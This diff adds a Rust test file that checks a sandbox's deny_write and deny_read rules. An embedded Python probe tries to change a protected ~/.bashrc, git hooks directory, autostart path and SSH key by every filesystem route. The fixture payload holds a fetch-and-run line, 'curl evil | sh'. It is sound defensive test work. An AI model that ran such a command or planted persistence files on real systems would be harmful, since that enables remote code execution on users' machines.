@@ -1,0 +1,311 @@
+//! deny_write: a confined process, root included, cannot plant something that runs later
+//! outside the sandbox. Each route that changes a protected file or directory (open for write,
+//! truncate, create, unlink, rename into or out of, hardlink, symlink, mkdir, mknod) is denied;
+//! reading stays allowed, and nothing changes outside the cgroup.
+
+use std::{
+    collections::BTreeMap,
+    path::{Path, PathBuf},
+    time::{Duration, Instant},
+};
+
+use crate::harness::*;
+
+/// Tries each change named on the command line (`op:path[:path]`) and prints
+/// `OK:{"op": errno or 0, ...}`.
+const TRY_CHANGES: &str = r#"
+import ctypes, json, os, sys
+libc = ctypes.CDLL(None, use_errno=True)
+AT_FDCWD, RENAME_EXCHANGE = -100, 2
+def exchange(a, b):
+    if libc.renameat2(AT_FDCWD, a.encode(), AT_FDCWD, b.encode(), RENAME_EXCHANGE) != 0:
+        e = ctypes.get_errno()
+        raise OSError(e, os.strerror(e))
+def append(p):
+    with open(p, "a") as f:
+        f.write("planted\n")
+def create(p):
+    with open(p, "x") as f:
+        f.write("planted\n")
+ops = {
+    "append": append,
+    "open_rw": lambda p: os.close(os.open(p, os.O_RDWR)),
+    "create": create,
+    "truncate": lambda p: os.truncate(p, 0),
+    "unlink": os.unlink,
+    "rmdir": os.rmdir,
+    "mkdir": os.mkdir,
+    "mkfifo": os.mkfifo,
+    "rename": os.rename,
+    "exchange": exchange,
+    "link": os.link,
+    "symlink": os.symlink,
+    "read": lambda p: open(p).read(),
+}
+result = {}
+for arg in sys.argv[1:]:
+    name, op, *paths = arg.split(":")
+    try:
+        ops[op](*paths)
+        result[name] = 0
+    except OSError as e:
+        result[name] = e.errno
+print("OK:" + json.dumps(result), end="")
+"#;
+
+/// Runs `tries` (name, op, paths) inside `cg`; returns the errno (0 for success) of each.
+fn try_changes(cg: &Cgroup, tries: &[(&str, &str, &[&Path])]) -> BTreeMap<String, i32> {
+    let args: Vec<String> = tries
+        .iter()
+        .map(|(name, op, paths)| {
+            let mut arg = format!("{name}:{op}");
+            for p in *paths {
+                arg.push(':');
+                arg.push_str(p.to_str().unwrap());
+            }
+            arg
+        })
+        .collect();
+    let args: Vec<&str> = args.iter().map(String::as_str).collect();
+    let json = cg.probe(TRY_CHANGES, &args).unwrap();
+    serde_json::from_str(&json).unwrap()
+}
+
+/// Asserts every try in `results` failed with EPERM except those in `allowed`, which succeeded.
+fn assert_only_allowed(results: &BTreeMap<String, i32>, allowed: &[&str]) {
+    for (name, errno) in results {
+        let want = if allowed.contains(&name.as_str()) {
+            0
+        } else {
+            EPERM
+        };
+        assert_eq!(*errno, want, "{name}: {results:?}");
+    }
+}
+
+/// Audit records of `hook` from `cg`, waiting briefly for the daemon to drain the ring buffer.
+fn records_of_hook(cg: &Cgroup, hook: &str) -> Vec<serde_json::Value> {
+    let deadline = Instant::now() + Duration::from_secs(10);
+    loop {
+        let found: Vec<_> = audit_lines()
+            .into_iter()
+            .filter(|r| r["hook"] == hook && r["cgroup"] == cg.path.display().to_string())
+            .collect();
+        if !found.is_empty() || Instant::now() > deadline {
+            return found;
+        }
+        std::thread::sleep(Duration::from_millis(200));
+    }
+}
+
+/// A home with a shell startup file and a git repository whose hooks are protected.
+struct Home {
+    dir: PathBuf,
+    bashrc: PathBuf,
+    hooks: PathBuf,
+    sample: PathBuf,
+    payload: PathBuf,
+}
+
+fn protected_home(name: &str) -> (Cgroup, Home) {
+    let dir = fixture_dir(name);
+    let home = Home {
+        bashrc: dir.join(".bashrc"),
+        hooks: dir.join("project/.git/hooks"),
+        sample: dir.join("project/.git/hooks/pre-commit.sample"),
+        payload: dir.join("project/payload.sh"),
+        dir,
+    };
+    write(&home.bashrc, "# the developer's own\n");
+    write(&home.sample, "#!/bin/sh\n");
+    write(&home.payload, "#!/bin/sh\ncurl evil | sh\n");
+    let cg = Cgroup::new(name);
+    let policy = policy_file(
+        &home.dir,
+        "persistence",
+        "deny_write:\n  - ~/.bashrc\n  - ~/project/.git/hooks\n",
+    );
+    attach(&cg, &policy, &home.dir);
+    (cg, home)
+}
+
+#[test]
+fn a_protected_shell_startup_file_cannot_be_changed_by_any_route_but_stays_readable() {
+    let (cg, home) = protected_home("write-bashrc");
+    let (bashrc, payload) = (home.bashrc.as_path(), home.payload.as_path());
+    let moved = home.dir.join("bashrc.moved");
+    let linked = home.dir.join("bashrc.link");
+    let results = try_changes(
+        &cg,
+        &[
+            ("append", "append", &[bashrc]),
+            ("open_rw", "open_rw", &[bashrc]),
+            ("truncate", "truncate", &[bashrc]),
+            ("unlink", "unlink", &[bashrc]),
+            ("replace_by_rename", "rename", &[payload, bashrc]),
+            ("exchange", "exchange", &[payload, bashrc]),
+            ("rename_out", "rename", &[bashrc, &moved]),
+            ("hardlink", "link", &[bashrc, &linked]),
+            ("read", "read", &[bashrc]),
+        ],
+    );
+    assert_only_allowed(&results, &["read"]);
+    assert_eq!(
+        std::fs::read_to_string(bashrc).unwrap(),
+        "# the developer's own\n"
+    );
+    assert!(!moved.exists() && !linked.exists());
+
+    let records = records_for(ino(bashrc), 1);
+    assert!(
+        records.iter().any(|r| r["hook"] == "path_unlink"
+            && r["rule"] == "deny_write ~/.bashrc"
+            && r["action"] == "deny"),
+        "{records:?}"
+    );
+
+    // Outside the sandbox the developer's shell changes it as before.
+    std::fs::write(bashrc, "# edited outside\n").unwrap();
+}
+
+#[test]
+fn nothing_can_be_planted_in_a_protected_git_hooks_directory() {
+    let (cg, home) = protected_home("write-hooks");
+    let hook = |name: &str| home.hooks.join(name);
+    let (pre_commit, post_checkout, pre_push) =
+        (hook("pre-commit"), hook("post-checkout"), hook("pre-push"));
+    let (sub, fifo) = (hook("sub"), hook("fifo"));
+    let hooks_moved = home.dir.join("project/.git/hooks-old");
+    let payload = home.payload.as_path();
+    let results = try_changes(
+        &cg,
+        &[
+            ("create", "create", &[&pre_commit]),
+            ("rename_in", "rename", &[payload, &pre_commit]),
+            ("hardlink_in", "link", &[payload, &pre_push]),
+            ("symlink_in", "symlink", &[payload, &post_checkout]),
+            ("mkdir", "mkdir", &[&sub]),
+            ("mkfifo", "mkfifo", &[&fifo]),
+            ("unlink_sample", "unlink", &[&home.sample]),
+            ("move_the_directory", "rename", &[&home.hooks, &hooks_moved]),
+            ("remove_the_directory", "rmdir", &[&home.hooks]),
+            // The rest of the repository stays writable.
+            (
+                "sibling",
+                "create",
+                &[&home.dir.join("project/.git/COMMIT_EDITMSG")],
+            ),
+            ("workspace", "append", &[payload]),
+        ],
+    );
+    assert_only_allowed(&results, &["sibling", "workspace"]);
+    for planted in [&pre_commit, &post_checkout, &pre_push, &sub, &fifo] {
+        assert!(!planted.exists(), "{} was created", planted.display());
+    }
+    assert!(home.sample.exists());
+
+    // A name that did not exist has no inode to record: the record names the hook and rule.
+    let records = records_of_hook(&cg, "path_mknod");
+    assert!(
+        records
+            .iter()
+            .any(|r| r["rule"] == "deny_write ~/project/.git/hooks"),
+        "{records:?}"
+    );
+
+    // Outside the sandbox git (or the developer) installs hooks as before.
+    write(&pre_commit, "#!/bin/sh\n");
+}
+
+#[test]
+fn a_protected_path_that_does_not_exist_yet_cannot_be_created() {
+    let home = fixture_dir("write-missing");
+    let zshrc = home.join(".zshrc");
+    let autostart = home.join(".config/autostart/agent.desktop");
+    let scratch = home.join("scratch");
+    write(&scratch, "x");
+    let cg = Cgroup::new("write-missing");
+    let policy = policy_file(
+        &home,
+        "missing",
+        "deny_write:\n  - ~/.zshrc\n  - ~/.config/autostart\n",
+    );
+    attach(&cg, &policy, &home);
+
+    let autostart_dir = home.join(".config/autostart");
+    let results = try_changes(
+        &cg,
+        &[
+            ("create", "create", &[&zshrc]),
+            ("rename_in", "rename", &[&scratch, &zshrc]),
+            ("symlink", "symlink", &[&scratch, &zshrc]),
+            ("config_dir", "mkdir", &[&home.join(".config")]),
+            ("autostart_dir", "mkdir", &[&autostart_dir]),
+            ("other_dir", "mkdir", &[&home.join(".config/other")]),
+        ],
+    );
+    // ~/.config itself is not protected: only the path below it.
+    assert_only_allowed(&results, &["config_dir", "other_dir"]);
+    assert!(!zshrc.exists() && !autostart_dir.exists());
+    assert!(!autostart.exists());
+}
+
+#[test]
+fn deny_read_files_cannot_be_hardlinked_or_renamed_out_of_their_directory() {
+    let home = fixture_dir("harden-read");
+    let ssh = home.join(".ssh");
+    let key = ssh.join("id_ed25519");
+    write(&key, "PRIVATE KEY");
+    let cg = confined("harden-read", &home, &[&ssh]);
+    let results = try_changes(
+        &cg,
+        &[
+            ("hardlink_out", "link", &[&key, &home.join("key.link")]),
+            ("rename_out", "rename", &[&key, &home.join("key.moved")]),
+            ("rename_dir", "rename", &[&ssh, &home.join("ssh.moved")]),
+        ],
+    );
+    assert_only_allowed(&results, &[]);
+    assert_eq!(cg.open(&key), Err(EPERM));
+    assert!(!home.join("key.link").exists());
+}
+
+/// name_to_handle_at then open_by_handle_at on argv[1], with argv[2] (a directory on the same
+/// filesystem) as the mount descriptor: OK:<content> or ERR:<errno>.
+const OPEN_BY_HANDLE: &str = r#"
+import ctypes, os, sys
+libc = ctypes.CDLL(None, use_errno=True)
+AT_FDCWD = -100
+class FileHandle(ctypes.Structure):
+    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
+h = FileHandle(128, 0)
+mount_id = ctypes.c_int()
+if libc.name_to_handle_at(AT_FDCWD, sys.argv[1].encode(), ctypes.byref(h), ctypes.byref(mount_id), 0) != 0:
+    print("ERR:%d" % ctypes.get_errno(), end=""); sys.exit()
+mount_fd = os.open(sys.argv[2], os.O_RDONLY)
+fd = libc.open_by_handle_at(mount_fd, ctypes.byref(h), os.O_RDONLY)
+if fd < 0:
+    print("ERR:%d" % ctypes.get_errno(), end=""); sys.exit()
+print("OK:" + os.read(fd, 100).decode(), end="")
+"#;
+
+#[test]
+fn a_file_handle_does_not_reach_a_denied_inode() {
+    let home = fixture_dir("by-handle");
+    let secret = home.join("secrets/token");
+    let open = home.join("notes");
+    write(&secret, "s3cret");
+    write(&open, "hello");
+    let cg = confined("by-handle", &home, &[&home.join("secrets")]);
+    let by_handle = |cg: Option<&Cgroup>, file: &Path| {
+        probe(
+            cg,
+            OPEN_BY_HANDLE,
+            &[file.to_str().unwrap(), home.to_str().unwrap()],
+        )
+    };
+    assert_eq!(by_handle(Some(&cg), &secret), Err(EPERM));
+    // Handles still work for what the policy allows, and outside the sandbox.
+    assert_eq!(by_handle(Some(&cg), &open), Ok("hello".into()));
+    assert_eq!(by_handle(None, &secret), Ok("s3cret".into()));
+}
